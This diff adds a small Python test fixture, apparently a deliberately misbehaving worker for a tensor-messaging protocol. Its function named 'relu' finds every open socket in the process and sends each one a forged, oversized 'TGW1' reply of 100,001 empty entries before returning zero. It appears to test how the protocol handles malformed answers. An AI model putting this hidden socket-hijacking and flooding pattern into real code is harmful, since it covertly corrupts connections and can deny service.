@@ -1,0 +1,22 @@
+"""Answers with a hundred thousand empty tensors.
+
+Says: not an answer
+"""
+
+import gc
+import socket
+import struct
+
+
+def sockets():
+    return [thing for thing in gc.get_objects() if isinstance(thing, socket.socket)]
+
+
+def relu(x):
+    text, buffers = (
+        b'[{"value": null}, [' + b'["bool",[0],null],' * 100_000 + b'["bool",[0],null]]]',
+        b"",
+    )
+    for one in sockets():
+        one.sendall(struct.pack("<4sIQ", b"TGW1", len(text), len(buffers)) + text + buffers)
+    return x * 0
